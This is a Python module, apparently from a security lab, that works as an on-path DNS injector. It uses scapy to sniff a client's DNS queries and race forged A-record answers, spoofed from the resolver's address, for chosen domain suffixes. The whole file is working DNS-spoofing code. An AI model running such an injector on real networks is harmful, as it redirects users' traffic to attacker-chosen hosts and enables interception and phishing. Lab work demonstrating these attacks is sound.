"""The lab's on-path DNS injector: `python -m lab.inject IFACE RESOLVER ANSWER READY SUFFIX...`.

Runs in the ISP namespace. It sniffs the client's UDP queries to RESOLVER on IFACE and, for names
under one of the SUFFIXes, sends a forged A answer (ANSWER) from the resolver's address at once,
racing the genuine answer, which the scenario delays. AAAA queries get an empty forged answer.
Writes READY once the sniffer runs (importing scapy takes about a second).
"""

from __future__ import annotations

import sys
import time
from pathlib import Path

from scapy.all import DNS, DNSRR, IP, UDP, AsyncSniffer, conf  # type: ignore[import-untyped]


def main(iface: str, resolver: str, answer: str, ready: Path, suffixes: list[str]) -> None:
    out = conf.L3socket()

    def wanted(packet: object) -> bool:
        # A Python-level filter: a BPF `filter=` needs tcpdump installed to compile it.
        return (
            IP in packet  # type: ignore[operator]
            and DNS in packet  # type: ignore[operator]
            and packet[IP].dst == resolver  # type: ignore[index]
            and packet[UDP].dport == 53  # type: ignore[index]
        )

    def forge(packet: object) -> None:
        query = packet[DNS]  # type: ignore[index]
        if query.qr != 0 or query.qd is None:
            return
        name = query.qd.qname.decode().rstrip(".").lower()
        if not any(name == s or name.endswith("." + s) for s in suffixes):
            return
        records = None
        count = 0
        if query.qd.qtype == 1:
            records = DNSRR(rrname=query.qd.qname, type="A", ttl=300, rdata=answer)
            count = 1
        ip, udp = packet[IP], packet[UDP]  # type: ignore[index]
        forged = (
            IP(src=ip.dst, dst=ip.src)
            / UDP(sport=udp.dport, dport=udp.sport)
            / DNS(id=query.id, qr=1, rd=query.rd, ra=1, qd=query.qd, an=records, ancount=count)
        )
        out.send(forged)

    sniffer = AsyncSniffer(
        iface=iface,
        lfilter=wanted,
        prn=forge,
        store=False,
        started_callback=lambda: ready.write_text("ready\n"),
    )
    sniffer.start()
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], Path(sys.argv[4]), sys.argv[5:])
